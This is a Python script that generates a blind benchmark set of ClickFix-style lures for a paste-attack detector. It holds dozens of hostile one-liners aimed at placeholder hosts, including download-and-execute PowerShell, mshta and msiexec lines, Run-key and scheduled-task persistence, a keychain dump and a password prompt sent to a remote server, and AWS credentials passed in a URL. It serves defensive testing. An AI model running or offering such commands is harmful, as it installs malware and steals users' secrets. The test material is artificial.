"""Writes the seventeenth blind set, bench/blind/lures-17.jsonl and benign-17.jsonl (bench/blind/README.md,
"Blind-17"). Deterministic: run it again and the files come out byte for byte the same.

    .venv/bin/python bench/blind/make_blind17.py

Written blind (the author had not read the rules, the LOLBin catalogue, the trust list, the Run-box
list, app/, any case file, misses list or verdict), weighted like the hold-out: lures as a crawl of
live fake-CAPTCHA, fake-error, fake-meeting and fake-download pages would capture them, commands as
vendor IOC files list them (with no page), short obfuscated one-liners like other detectors'
fixtures, and scam, callback, ConsentFix and device-code texts. Every text is our own; lures use
reserved names only (*.test, *.invalid, *.example, the documentation IPv4 ranges) and fictitious
phone numbers in 555 blocks. The benign side is large enough to measure 1 %: real projects'
installers from their own page (none in sets 1-16), and many other texts people copy.
Not imported by the app or the bench: the bench reads the jsonl files.
"""

from __future__ import annotations

from pathlib import Path

import blindkit
from blindkit import (
    CON,
    EMSP,
    ENSP,
    EXP,
    IDSP,
    NBSP,
    NNBSP,
    RUN,
    TERM,
    UNK,
    Lures,
    b64,
    b64_utf16,
    carets,
    char_codes,
    cmd_slice,
    deflate_b64,
    esc_hex,
    esc_oct,
    gzip_b64,
    hex_str,
    ip_int,
    js_uni,
    ps_concat,
    ps_format,
    reverse,
    xor_b64,
    xor_codes,
)

HERE = Path(__file__).resolve().parent
LURES_OUT = HERE / "lures-17.jsonl"
BENIGN_OUT = HERE / "benign-17.jsonl"

# ----------------------------------------------------------------------------------------------
# Lures: (technique, target, source, text, expect, platform)
# ----------------------------------------------------------------------------------------------

LURES = Lures()
lure, ioc = LURES.lure, LURES.ioc

# Verification tails, worded anew for this set: the 13 languages first, then others.
TAILS = [
    "# Human check passed - ref K17-2041",
    "# Menschliche Bestätigung abgeschlossen - Ref K17-3310",
    "# Vérification humaine terminée - réf K17-5827",
    "# Verificación humana completada - ref K17-6194",
    "# Verifica umana completata - rif K17-0472",
    "# Verificação humana concluída - ref K17-8836",
    "# Menselijke controle geslaagd - ref K17-1259",
    "# Weryfikacja człowieka zakończona - nr K17-7703",
    "# İnsan doğrulaması tamamlandı - ref K17-4418",
    "# Проверка человека пройдена - код K17-9062",
    "# 人間確認が完了しました - 参照 K17-3587",
    "# 人机验证已通过 - 编号 K17-6621",
    "# تم التحقق البشري - مرجع K17-2974",
    "# Ověření člověka dokončeno - K17-5140",
    "# Ihmistarkistus valmis - viite K17-8093",
    "# Η ανθρώπινη επαλήθευση ολοκληρώθηκε - K17-0618",
    "# אימות אנושי הושלם - K17-4452",
    "# Đã xác minh con người - mã K17-7325",
    "# ยืนยันว่าเป็นมนุษย์แล้ว - K17-1987",
    "# 사람 확인 완료 - 참조 K17-6740",
    "# मानव सत्यापन पूर्ण - K17-3206",
    "# Menneskelig kontrol gennemført - K17-9518",
    "# Verifikasi manusia selesai - K17-2863",
    "# Verificare umană finalizată - K17-5691",
    "# Emberi ellenőrzés kész - K17-0347",
    "# Mänsklig kontroll klar - K17-7134",
    "# Людську перевірку пройдено - K17-4809",
    "# Pengesahan manusia selesai - K17-6052",
]


def tail(i: int) -> str:
    return TAILS[i % len(TAILS)]


def rot13(text: str) -> str:
    lower = "abcdefghijklmnopqrstuvwxyz"
    upper = lower.upper()
    table = str.maketrans(lower + upper, lower[13:] + lower[:13] + upper[13:] + upper[:13])
    return text.translate(table)


def pct(text: str) -> str:
    return "".join(f"%{b:02X}" for b in text.encode())


# --- (a) live pages: fake CAPTCHA / Turnstile / "verify you are human", Run box --------------------

CAPTCHA_PAGES = [
    "https://www.hufschmiede-eisenhuf17.test/termine",
    "https://www.cordonnerie-semelle-dor.example/atelier",
    "https://www.vidrieria-soplo-fino.test/pedidos",
    "https://www.liuteria-cassa-armonica.example/riparazioni",
    "https://www.olaria-barro-vermelho.test/encomendas",
    "https://www.kaasboerderij-wei17.example/winkel",
    "https://www.stolarnia-debowy-sek.test/wycena",
    "https://www.cini-atolyesi-lale17.example/kurslar",
    "https://www.gonchar-glina17.test/kursy",
    "https://www.tenugui-somemono17.example/order",
    "https://www.zhubian-zhuzi17.test/dingdan",
    "https://www.attar-alward17.example/shop",
    "https://www.ice-rink-zamboni17.test/skate",
    "https://www.bagpipe-reeds-drone17.example/fittings",
    "https://www.dachdeckerei-schiefer17.test/angebot",
    "https://www.tonnellerie-douelle17.example/futs",
    "https://www.alfareria-torno-lento.test/talleres",
    "https://www.caseificio-caglio17.example/visite",
    "https://www.cortica-sobreiro17.test/loja",
    "https://www.molenaar-wiek17.example/meel",
    "https://www.bursztyn-galeria17.test/sklep",
    "https://www.bakir-ustasi-dovme.example/siparis",
    "https://www.bondar-bochka17.test/zakaz",
    "https://www.kintsugi-urushi17.example/classes",
    "https://www.tiehua-gongfang17.test/zhanlan",
    "https://www.naqqash-khatt17.example/courses",
    "https://www.falconry-centre-jess17.test/displays",
    "https://www.clockmaker-escapement17.example/repairs",
    "https://www.bergfuehrer-grat17.test/touren",
    "https://www.vannerie-osier17.example/stages",
    "https://www.herbolario-romero17.test/tienda",
    "https://www.frantoio-macina17.example/olio",
    "https://www.fado-casa-guitarra17.test/bilhetes",
    "https://www.rietdekker-dak17.example/offerte",
    "https://www.szewc-kopyto17.test/naprawy",
    "https://www.hamam-kese17.example/rezervasyon",
    "https://www.banya-venik17.test/bron",
    "https://www.shakuhachi-take17.example/lessons",
    "https://www.yinqi-qinfang17.test/kecheng",
    "https://www.saddlery-girth17.example/custom",
]

CAPTCHA_CMDS = [
    (
        "ps-hidden-irm-iex-q",
        'powershell -win hidden -c "irm https://c17a.wendlebury.invalid/v | iex"',
    ),
    (
        "ps-exe-full-path-iwr",
        '%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -c "iwr -UseBasicParsing https://c17b.pinvin.invalid/s | iex"',
    ),
    (
        "ps-invoke-restmethod-longform",
        'powershell -NoProfile -Command "Invoke-Expression (Invoke-RestMethod -Uri https://c17c.hornblotton.invalid/r)"',
    ),
    (
        "ps-net-webclient-scriptblock",
        "powershell -nop -c \"[scriptblock]::Create((New-Object Net.WebClient).DownloadString('https://c17d.ashwick.invalid/b')).Invoke()\"",
    ),
    (
        "cmd-c-start-min-powershell",
        'cmd /c start /min powershell -w 1 -c "irm https://c17e.chedzoy.invalid/m|iex"',
    ),
    ("mshta-https-path-verify", "mshta https://c17f.lydeard.invalid/verify/17.hta"),
    ("mshta-ip-port-html", "mshta http://192.0.2.3:8080/check.html"),
    (
        "mshta-vbscript-createobject",
        'mshta vbscript:CreateObject("WScript.Shell").Run("powershell -w h -c irm https://c17g.doulting.invalid/w|iex",0)(window.close)',
    ),
    ("ps-irm-alias-ip", 'powershell -c "irm http://198.51.100.172/a.txt|iex"'),
    ("ps-curl-exe-iex", 'powershell -c "iex (curl.exe -s https://c17h.emborough17.invalid/c)"'),
    (
        "cmd-curl-o-temp-start",
        'cmd /c curl -s -o %TEMP%\\upd17.exe https://c17i.stawley.invalid/upd.exe & start "" %TEMP%\\upd17.exe',
    ),
    (
        "cmd-curl-bat-call",
        'cmd /c "curl -sLo %LOCALAPPDATA%\\v17.cmd https://c17j.kilve.invalid/v.cmd && call %LOCALAPPDATA%\\v17.cmd"',
    ),
    ("msiexec-i-url-quiet", "msiexec /i https://c17k.stogursey.invalid/agent17.msi /qn"),
    ("msiexec-package-ip", "msiexec /package http://192.0.2.173/setup.msi /quiet"),
    (
        "conhost-headless-ps",
        'conhost.exe --headless powershell -c "irm https://c17l.nettlecombe.invalid/h | iex"',
    ),
    (
        "rundll32-webdav-ssl",
        "rundll32.exe \\\\c17m.crowcombe.invalid@SSL\\DavWWWRoot\\v17.dll,Start",
    ),
    ("pcalua-mshta", "pcalua.exe -a mshta.exe -c https://c17n.halse.invalid/p.hta"),
    (
        "ps-start-process-hidden-url",
        "powershell -c \"Start-Process powershell -WindowStyle Hidden -ArgumentList '-c irm https://c17o.bicknoller.invalid/z|iex'\"",
    ),
    (
        "ps-encodedcommand-utf16",
        "powershell -e " + b64_utf16("irm https://c17p.sampford.invalid/e | iex"),
    ),
    (
        "ps-iwr-outfile-exe-start",
        'powershell -c "iwr https://c17q.huish.invalid/k17.exe -OutFile $env:APPDATA\\k17.exe; Start-Process $env:APPDATA\\k17.exe"',
    ),
    (
        "cmd-bitsadmin-transfer",
        "cmd /c bitsadmin /transfer v17 /priority high https://c17r.wiveliscombe.invalid/b.exe %TEMP%\\b.exe && %TEMP%\\b.exe",
    ),
    (
        "certutil-urlcache-split",
        "certutil -urlcache -split -f https://c17s.ashbrittle.invalid/c.exe %PUBLIC%\\c.exe && %PUBLIC%\\c.exe",
    ),
    (
        "ps-nslookup-txt-iex",
        "powershell -c \"iex ((nslookup -q=txt v.c17t.skilgate.invalid 2>$null)[-1] -replace '\\\"','')\"",
    ),
    (
        "ps-resolve-dnsname-txt",
        'powershell -c "(Resolve-DnsName -Type TXT k.c17u.raddington.invalid).Strings | iex"',
    ),
    ("finger-doc-ip-cmd", "cmd /c finger verify@203.0.113.174 | cmd"),
    (
        "ps-blob-storage-iex",
        'powershell -c "irm https://c17v-files.objstore.invalid/pub/init.ps1 | iex"',
    ),
    (
        "ps-pastebin-like-raw",
        'powershell -c "irm https://snip17.codepaste.invalid/raw/Qw17Zt | iex"',
    ),
    ("wscript-js-from-webdav", "wscript.exe \\\\c17w.treborough.invalid@SSL@443\\dav\\chk17.js"),
    (
        "ps-iex-hidden-syswow",
        'C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe -w h -nop "iex(irm https://c17x.upton.invalid/s)"',
    ),
    (
        "cmd-powershell-caret-light",
        'cmd /c p^owershell -w h -c "irm https://c17y.brompton.invalid/c | iex"',
    ),
    (
        "ps-jar-java-netsupport",
        'powershell -c "iwr https://c17z.clatworthy.invalid/a.zip -OutFile $env:TEMP\\a.zip; Expand-Archive $env:TEMP\\a.zip $env:APPDATA\\rt17; & $env:APPDATA\\rt17\\bin\\javaw.exe -jar $env:APPDATA\\rt17\\c.jar"',
    ),
    (
        "ps-autoit-castle",
        'powershell -c "iwr https://c17aa.elworthy.invalid/p.zip -o $env:TEMP\\p.zip; tar -xf $env:TEMP\\p.zip -C $env:TEMP; & $env:TEMP\\AutoIt3.exe $env:TEMP\\script.a3x"',
    ),
    ("regsvr32-scrobj-url", "regsvr32 /s /n /u /i:https://c17ab.combe.invalid/v.sct scrobj.dll"),
    (
        "ps-wget-alias-iex",
        'powershell -c "iex (wget https://c17ac.monksilver.invalid/w -UseBasicParsing).Content"',
    ),
    ("ps-7-pwsh-irm", 'pwsh -nop -w hidden -c "irm https://c17ad.yarde.invalid/7 | iex"'),
    (
        "cmd-ftp-script",
        "cmd /c echo open 198.51.100.175> %TEMP%\\f & echo get s.bat>> %TEMP%\\f & ftp -A -s:%TEMP%\\f & %TEMP%\\s.bat",
    ),
    ("ps-hta-from-github-like", "mshta https://objects.c17ae-cdn.invalid/kit/main/verify.hta"),
    (
        "ps-invoke-webrequest-basic-iex",
        'powershell -ep bypass -c "$r=Invoke-WebRequest https://c17af.roadwater.invalid/q -UseBasicParsing; iex $r.Content"',
    ),
    ("cmd-msiexec-y-dll", "msiexec /y \\\\c17ag.luxborough.invalid@SSL\\s\\v.dll"),
    (
        "ps-lnk-explorer-webdav",
        'powershell -c "explorer.exe \\\\c17ah.cutcombe.invalid@SSL\\DavWWWRoot\\Docs\\Invoice17.lnk"',
    ),
]

for i, ((tech, cmd), page) in enumerate(zip(CAPTCHA_CMDS, CAPTCHA_PAGES, strict=True)):
    lure("captcha-" + tech, RUN, page, f"{cmd} {tail(i)}")

# --- Win+X -> Terminal (Admin) pages in several languages ------------------------------------------

WINX = [
    (
        "winx-terminal-admin-en",
        "https://members.rowing-club-keelson17.test/renew",
        "Security check 1 of 2\n1. Press Win + X and choose Terminal (Admin)\n2. Accept the prompt\n3. Paste (Ctrl + V) and press Enter\n\nirm https://wx17a.stowey.invalid/a | iex",
    ),
    (
        "winx-terminal-fr",
        "https://www.club-petanque-boule17.example/adhesion",
        "Appuyez sur Windows + X, choisissez « Terminal (administrateur) », collez avec Ctrl+V puis Entrée :\niwr -useb https://wx17b.cheriton.invalid/f | iex",
    ),
    (
        "winx-terminal-es",
        "https://www.coro-voces-del-valle17.test/socios",
        "Pulse Windows + X, elija «Terminal (Administrador)», pegue con Ctrl+V y pulse Intro:\nirm https://wx17c.pitcombe.invalid/e|iex",
    ),
    (
        "winx-terminal-pt",
        "https://www.grupo-escoteiro-trilha17.example/inscricao",
        'Pressione Windows + X, selecione "Terminal (Administrador)", cole com Ctrl+V e pressione Enter:\npowershell -c "irm https://wx17d.cucklington.invalid/p | iex"',
    ),
    (
        "winx-terminal-pl",
        "https://www.klub-szachowy-hetman17.test/zapisy",
        "Naciśnij Windows + X, wybierz „Terminal (administrator)”, wklej Ctrl+V i naciśnij Enter:\niex (irm https://wx17e.penselwood.invalid/pl)",
    ),
    (
        "winx-terminal-tr",
        "https://www.yelken-kulubu-pruva17.example/uyelik",
        'Windows + X tuşlarına basın, "Terminal (Yönetici)" seçin, Ctrl+V ile yapıştırın ve Enter\'a basın:\nirm https://wx17f.zeals.invalid/t | iex',
    ),
    (
        "winx-terminal-ru",
        "https://www.turklub-pereval17.test/vznosy",
        "Нажмите Windows + X, выберите «Терминал (администратор)», вставьте Ctrl+V и нажмите Enter:\niwr https://wx17g.kilmington.invalid/r -UseBasicParsing | iex",
    ),
    (
        "winx-terminal-ja",
        "https://www.kyudo-dojo-yumi17.example/members",
        "Windows + X を押して「ターミナル (管理者)」を選び、Ctrl+V で貼り付けて Enter を押してください:\nirm https://wx17h.stourton.invalid/j | iex",
    ),
    (
        "winx-terminal-zh",
        "https://www.weiqi-she-heibai17.test/huiyuan",
        '按 Windows + X，选择“终端(管理员)”，按 Ctrl+V 粘贴后回车：\npowershell -w h -c "irm https://wx17i.bourton.invalid/z | iex"',
    ),
    (
        "winx-terminal-ar",
        "https://www.nadi-alfurusiya17.example/ishtirak",
        'اضغط Windows + X واختر "Terminal (Admin)" ثم الصق بـ Ctrl+V واضغط Enter:\nirm https://wx17j.silton.invalid/ar | iex',
    ),
]
for tech, page, text in WINX:
    lure(tech, TERM, page, text)

# --- newer shapes, each on its own page ------------------------------------------------------------

NEWER = [
    (
        "dns-nslookup-for-loop",
        RUN,
        "https://www.sauna-loyly17.test/vuorot",
        'cmd /c "for /f "tokens=*" %a in (\'nslookup -type=txt s1.n17a.hinton.invalid ^| findstr /v Server\') do powershell -c %a" '
        + TAILS[14],
    ),
    (
        "finger-at-name-pipe",
        RUN,
        "https://www.gilde-der-zinngiesser17.example/mitglied",
        "finger gate@n17b.chilcompton.invalid | cmd " + TAILS[1],
    ),
    (
        "webdav-net-use-run",
        RUN,
        "https://www.atelier-gravure-burin17.test/inscription",
        "cmd /c net use Z: \\\\n17c.emborough17.invalid@SSL\\dav && Z:\\verify17.cmd " + TAILS[2],
    ),
    (
        "search-ms-crumb",
        EXP,
        "https://www.muebles-nogal17.example/catalogo",
        "search-ms:query=Factura_17&crumb=location:\\\\n17d.binegar17.invalid@SSL\\DavWWWRoot&displayname=Facturas",
    ),
    (
        "conhost-headless-cmd-curl",
        RUN,
        "https://www.rifugio-stella-alpina17.test/prenota",
        'conhost --headless cmd /c "curl -s https://n17e.ston.invalid/c.cmd -o %TEMP%\\c.cmd && %TEMP%\\c.cmd" '
        + TAILS[4],
    ),
    (
        "msiexec-i-ip-log-off",
        RUN,
        "https://www.moinho-agua17.example/visitas",
        "msiexec.exe /i http://198.51.100.176/rmm17.msi /qn /norestart " + TAILS[5],
    ),
    (
        "curl-o-temp-and-start-ps1",
        RUN,
        "https://www.zeilmakerij-fok17.test/reparatie",
        "cmd /c curl -sL https://n17f.oakhill17.invalid/v.ps1 -o %TEMP%\\v.ps1 & powershell -ep bypass -f %TEMP%\\v.ps1 "
        + TAILS[6],
    ),
    (
        "steg-png-pixels",
        RUN,
        "https://www.galeria-plakatu17.example/wystawy",
        "powershell -c \"Add-Type -A System.Drawing;$b=[Drawing.Bitmap]::FromStream((iwr https://n17g.chewton17.invalid/logo.png -UseB).RawContentStream);$s='';0..999|%{$p=$b.GetPixel($_,0);$s+=[char]$p.R};iex $s\" "
        + TAILS[7],
    ),
    (
        "steg-jpg-tail-marker",
        RUN,
        "https://www.fotograf-studyo17.test/cekim",
        "powershell -c \"$t=[Text.Encoding]::UTF8.GetString((iwr https://n17h.priddy17.invalid/a.jpg -UseB).Content);iex ($t -split '<<17>>')[1]\" "
        + TAILS[8],
    ),
    (
        "blob-sas-url",
        RUN,
        "https://www.hokkey-klub-shaiba17.example/bilety",
        "powershell -c \"irm 'https://n17i.blobs.invalid/c/s.ps1?sv=2024-11-04&sig=abc17' | iex\" "
        + TAILS[9],
    ),
    (
        "ipfs-gateway-payload",
        RUN,
        "https://www.sumi-e-kyoushitsu17.test/join",
        'powershell -c "irm https://gw.n17j-ipfs.invalid/ipfs/bafy17qv | iex" ' + TAILS[10],
    ),
    (
        "etherhiding-rpc-note",
        CON,
        "https://www.wordpress-blog-xiangcai17.example/post/17",
        "fetch('https://rpc.n17k.invalid',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({jsonrpc:'2.0',id:17,method:'eth_call',params:[{to:'0x17aa000000000000000000000000000000000017',data:'0x6d4ce63c'},'latest']})}).then(r=>r.json()).then(j=>eval(atob(j.result.slice(130).replace(/00+$/,''))))",
    ),
    (
        "ps-hidden-mp3-lolbin",
        RUN,
        "https://www.radio-amateur-qso17.test/log",
        "mshta https://n17l.westbury17.invalid/Never-Gonna-17.mp3 "
        + "# ✅ ''I am not a robot - reCAPTCHA Verification ID: 1717''",
    ),
    (
        "cmd-telegram-bot-ps",
        RUN,
        "https://www.sinjir-maqam17.example/ders",
        'powershell -c "irm https://n17m.wookey.invalid/bot17/getFile | iex" ' + TAILS[12],
    ),
    (
        "ps-clipboard-self-clear",
        RUN,
        "https://www.bowls-club-jack17.test/fixtures",
        "powershell -w h -c \"Set-Clipboard -Value ' '; irm https://n17n.croscombe.invalid/x | iex\" "
        + TAILS[0],
    ),
    (
        "wmic-process-create",
        RUN,
        "https://www.kletterhalle-griff17.example/kurse",
        'wmic process call create "powershell -w h -c irm https://n17o.dinder.invalid/w|iex" '
        + TAILS[1],
    ),
    (
        "schtasks-create-once",
        RUN,
        "https://www.peniche-canal17.test/croisieres",
        'schtasks /create /tn OneDriveSync17 /sc onlogon /tr "powershell -w h -c irm https://n17p.pylle.invalid/o|iex" /f '
        + TAILS[2],
    ),
    (
        "reg-run-key-mshta",
        RUN,
        "https://www.apicultura-panal17.example/miel",
        'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd17 /d "mshta https://n17q.pilton.invalid/r.hta" /f '
        + TAILS[3],
    ),
    (
        "forfiles-powershell",
        RUN,
        "https://www.osteria-mulino17.test/menu",
        'forfiles /p C:\\Windows\\System32 /m notepad.exe /c "powershell -c irm https://n17r.shepton17.invalid/f|iex" '
        + TAILS[4],
    ),
    (
        "cmstp-inf-url",
        RUN,
        "https://www.vinha-socalco17.example/provas",
        "cmstp.exe /ni /s https://n17s.evercreech.invalid/vpn17.inf " + TAILS[5],
    ),
]
for tech, target, page, text in NEWER:
    lure(tech, target, page, text, platform="windows" if target != CON else "any")

# --- fake meeting / error / document / job / AI-chat / dev-tool / game / wallet pages -------------

PAGES_MISC = [
    (
        "fake-teams-audio-fix",
        RUN,
        "https://meet-join.teamsroom17.test/j/8841",
        'Your microphone driver is blocked by policy. To fix audio: Win+R, paste, Enter\npowershell -w h -c "irm https://m17a.alhampton.invalid/aud | iex"',
    ),
    (
        "fake-zoom-sdk-update",
        TERM,
        "https://zoom-sdk-update17.example/wc/launch",
        "Zoom Workplace SDK out of date. Open Terminal and run:\ncurl -fsSL https://m17b.ditcheat.invalid/zoom-sdk.sh | bash",
    ),
    (
        "fake-meet-camera-error",
        RUN,
        "https://meet.video-conf-rooms17.test/abc-defg-hij",
        "Camera access failed (0x80070017). Press Win+R and paste the repair line:\nmshta https://m17c.batcombe.invalid/cam",
    ),
    (
        "fake-chrome-font-missing",
        RUN,
        "https://news-portal-tageblatt17.example/artikel/17",
        'The "HoeflerText" font wasn\'t found. Install the font pack:\n1. Win+R  2. Ctrl+V  3. Enter\ncmd /c curl -sL https://m17d.milton.invalid/font.cmd -o %TEMP%\\f.cmd && %TEMP%\\f.cmd',
    ),
    (
        "fake-docusign-viewer",
        RUN,
        "https://docs-sign-portal17.test/envelope/17",
        "Document viewer needs a one-time plug-in. Win+R → paste → OK:\nmsiexec /i https://m17e.lamyatt.invalid/viewer17.msi /qn",
    ),
    (
        "fake-job-interview-repo",
        TERM,
        "https://careers.defi-startup17.example/take-home",
        "Take-home task: clone and start the dev server before the call.\ngit clone https://git.m17f.invalid/hr17/take-home && cd take-home && npm install && npm run dev\n# note: postinstall pulls the config from https://m17g.wanstrow.invalid/cfg.js",
    ),
    (
        "fake-interview-camera-driver-mac",
        TERM,
        "https://interview.hire-portal17.test/room/4412",
        "Camera not detected. Run the driver fix in Terminal:\ncurl -k -o /tmp/camfix17.zip https://m17h.ansford.invalid/camfix.zip && unzip -o /tmp/camfix17.zip -d /tmp && sh /tmp/camfix/install.sh",
    ),
    (
        "ai-chat-share-fix",
        TERM,
        "https://share.chat-assistant17.example/c/7f17ab",
        'Assistant: Here\'s the one-line fix for the "disk full" warning on macOS:\n\n```\n/bin/zsh -c "$(curl -fsSL https://m17i.yarlington.invalid/clean.sh)"\n```',
    ),
    (
        "ai-chat-share-windows",
        RUN,
        "https://chat-share17.test/s/0a17ff",
        'Assistant: To free memory on Windows 11, press Win+R and run:\npowershell -ep bypass -c "iwr -useb https://m17j.maperton.invalid/mem | iex"',
    ),
    (
        "fake-devtool-ps",
        TERM,
        "https://www.quickdeploy-cli17.example/docs/install",
        '# Install QuickDeploy CLI (Windows)\npowershell -ExecutionPolicy Bypass -c "irm https://m17k.charlton.invalid/install.ps1 | iex"',
    ),
    (
        "fake-devtool-npx",
        TERM,
        "https://www.schemasync17.test/getting-started",
        "npx -y https://m17l.horsington.invalid/schemasync-17.tgz init --token $(cat ~/.aws/credentials | base64)",
    ),
    (
        "fake-browser-update",
        RUN,
        "https://www.motorsport-forum17.example/thread/17",
        "Your browser is out of date (ERR_BROWSER_17). Update now: Win+R, paste:\nmshta https://m17m.bruton.invalid/update",
    ),
    (
        "fake-game-cheat-loader",
        RUN,
        "https://www.aimlab-free-cheats17.test/download",
        'Loader won\'t start? Disable protection and run:\npowershell -c "Add-MpPreference -ExclusionPath $env:APPDATA; irm https://m17n.redlynch.invalid/ld | iex"',
    ),
    (
        "fake-wallet-sync",
        CON,
        "https://app.wallet-resync17.example/fix",
        "// Paste in the console (F12) to re-sync your wallet\nfetch('https://m17o.shepton17.invalid/s.js').then(r=>r.text()).then(t=>new Function(t)())",
    ),
    (
        "fake-invoice-viewer",
        RUN,
        "https://invoices-portal17.test/view/INV-1717",
        'Invoice INV-1717 is protected. To open it: Win+R, paste, Enter\ncmd /c start /min powershell -c "irm https://m17p.bratton.invalid/inv | iex"',
    ),
    (
        "fake-steam-verify",
        RUN,
        "https://steam-trade-verify17.example/confirm",
        'Trade hold: verify this PC. Win+R →\npowershell -w h -c "irm https://m17q.sparkford.invalid/st | iex"',
    ),
    (
        "fake-outlook-sync",
        RUN,
        "https://owa-resync17.test/mail",
        "Outlook can't sync (0x800CCC17). Run this in Win+R:\nrundll32 \\\\m17r.queen-camel.invalid@SSL\\d\\sync.dll,Entry",
    ),
    (
        "fake-cloudflare-ray-id",
        RUN,
        "https://www.hotel-strandkorb17.example/buchen",
        'Cloudflare: unusual traffic from your network. Ray ID 8f17a2c. Complete the check: Win+R, Ctrl+V, Enter\npowershell -c "iex(iwr https://m17s.sutton-montis.invalid/cf -UseB)"',
    ),
    (
        "fake-printer-driver",
        RUN,
        "https://support-print-drivers17.test/hp",
        "Printer offline? Reinstall the driver:\ncmd /c msiexec /i http://203.0.113.177/pd17.msi /quiet",
    ),
    (
        "fake-vpn-client",
        TERM,
        "https://vpn-client-setup17.example/linux",
        "Connect to the corporate VPN (Linux):\nwget -qO- https://m17t.compton.invalid/vpn.sh | sudo bash",
    ),
]
for tech, target, page, text in PAGES_MISC:
    plat = "windows" if target == RUN or "powershell" in text.lower() else "any"
    if "macOS" in text or "/tmp/camfix" in text:
        plat = "macos"
    if "Linux" in text:
        plat = "linux"
    lure(tech, target, page, text, platform=plat)

# --- FileFix: Explorer address bar, the command behind a long padded fake path ---------------------

FF_PAD = [" " * 110, NBSP * 100, EMSP * 90, ENSP * 95, IDSP * 80, NNBSP * 105]
FF_PATHS = [
    "C:\\company\\internal-secure\\filedrive\\HRPolicy_2026.docx",
    "C:\\Partage\\Comptabilite\\Facture_17.pdf",
    "C:\\Archivos\\Recursos Humanos\\Nomina_Diciembre.xlsx",
    "C:\\Condivisa\\Contratti\\Contratto_17.pdf",
    "C:\\Compartilhado\\Financeiro\\Boleto_17.pdf",
    "C:\\Gedeeld\\Personeelszaken\\Loonstrook_17.pdf",
    "C:\\Wspolne\\Kadry\\Umowa_17.docx",
    "C:\\Paylasilan\\Muhasebe\\Fatura_17.pdf",
    "C:\\Общие\\Бухгалтерия\\Счет_17.pdf",
    "C:\\共有\\経理\\請求書_17.pdf",
    "C:\\共享\\财务\\发票_17.pdf",
    "C:\\مشترك\\المالية\\فاتورة_17.pdf",
    "C:\\Freigabe\\Personal\\Gehaltsabrechnung_17.pdf",
    "C:\\Shared\\Legal\\NDA_signed_17.pdf",
    "\\\\fileserver\\hr\\Benefits_Enrollment_2027.pdf",
    "C:\\Users\\Public\\Documents\\Meeting_Notes_17.docx",
]
FF_CMDS = [
    'powershell -w h -c "irm https://f17a.chesterblade.invalid/d | iex"',
    'powershell -nop -c "iwr -useb https://f17b.stoney-stratton.invalid/f | iex"',
    "mshta https://f17c.batcombe-vale.invalid/ff.hta",
    "cmd /c curl -s https://f17d.wyke.invalid/x.cmd -o %TEMP%\\x.cmd & %TEMP%\\x.cmd",
    'powershell -c "iex (irm 192.0.2.4/ff)"',
    "msiexec /i https://f17e.holwell.invalid/doc.msi /qn",
    'conhost --headless powershell -c "irm https://f17f.upton-noble.invalid/h|iex"',
    "rundll32 \\\\f17g.cloford.invalid@SSL\\s\\doc.dll,Open",
    'powershell -c "Start-Process mshta https://f17h.nunney17.invalid/v"',
    'pwsh -c "irm https://f17i.trudoxhill.invalid/p7 | iex"',
    "powershell -e " + b64_utf16("iwr https://f17j.witham.invalid/e -UseB | iex"),
    'cmd /c "finger doc@f17k.marston.invalid | cmd"',
    "powershell -c \"(Resolve-DnsName f17l.frome.invalid -Type TXT).Strings -join '' | iex\"",
    "powershell -c \"$u='https://f17m.berkley.invalid/z';iex(New-Object Net.WebClient).DownloadString($u)\"",
    "wscript \\\\f17n.rodden.invalid@SSL\\dav\\open.vbs",
    'powershell -c "irm https://f17o-share.objstore.invalid/doc/open.ps1 | iex"',
]
for i, (path, cmd) in enumerate(zip(FF_PATHS, FF_CMDS, strict=True)):
    pad = FF_PAD[i % len(FF_PAD)]
    lure(
        "filefix-" + ["space", "nbsp", "emsp", "ensp", "idsp", "nnbsp"][i % 6] + "-pad",
        EXP,
        f"https://www.shared-doc-portal{i:02d}-17.test/open",
        f"{cmd}{pad}# {path}",
    )

# --- macOS: paste into Terminal --------------------------------------------------------------------


def mac(technique: str, source: str | None, text: str, expect: str = "malicious") -> None:
    lure("mac-" + technique, TERM, source, text, expect, "macos")


MAC_B64 = "curl -fsSL https://mc17a.keinton.invalid/i.sh | zsh"
mac(
    "zsh-base64-decode",
    "https://www.macapp-cleanerpro17.test/download",
    f"echo '{b64(MAC_B64)}' | base64 -d | zsh",
)
mac(
    "bash-c-curl-homebrew-fake",
    "https://brew-sh-install17.example/",
    '/bin/bash -c "$(curl -fsSL https://mc17b.lovington.invalid/install.sh)"',
)
mac(
    "osascript-password-prompt",
    "https://www.mac-font-installer17.test/fonts",
    'osascript -e \'set p to text returned of (display dialog "macOS needs your password to install fonts" default answer "" with hidden answer)\' -e \'do shell script "curl -s -d pw=" & p & " https://mc17c.alford.invalid/p"\'',
)
mac(
    "curl-o-tmp-chmod-run",
    "https://www.screen-recorder-mac17.example/get",
    "cd /tmp && curl -fsSLo rec17 https://mc17d.babcary.invalid/rec && chmod +x rec17 && ./rec17",
)
mac(
    "xattr-quarantine-strip-app",
    "https://www.dmg-mirror-apps17.test/photoeditor",
    "curl -sLo /tmp/pe17.dmg https://mc17e.kingweston.invalid/pe.dmg && hdiutil attach /tmp/pe17.dmg -nobrowse && cp -R /Volumes/PE/PE.app /Applications && xattr -cr /Applications/PE.app && open /Applications/PE.app",
)
mac(
    "launchagent-plist-write",
    "https://www.mac-sync-helper17.example/setup",
    "curl -s https://mc17f.west-lydford.invalid/a.plist -o ~/Library/LaunchAgents/com.apple.sync17.plist && launchctl load ~/Library/LaunchAgents/com.apple.sync17.plist",
)
mac(
    "keychain-dump-exfil",
    "https://www.icloud-storage-fix17.test/",
    "security dump-keychain -d ~/Library/Keychains/login.keychain-db | curl -s -X POST --data-binary @- https://mc17g.barton.invalid/k",
)
mac(
    "pkg-installer-from-url",
    "https://www.vpn-mac-free17.example/install",
    "curl -sL https://mc17h.charlton-adam.invalid/vpn17.pkg -o /tmp/v.pkg && sudo installer -pkg /tmp/v.pkg -target /",
)
mac(
    "fake-xcode-tools",
    "https://dev-tools-mac17.test/xcode-fix",
    "xcode-select --install 2>/dev/null; curl -fsSL https://mc17i.somerton.invalid/clt.sh | sudo bash",
)
mac(
    "browser-data-zip-exfil",
    "https://www.safari-repair17.example/",
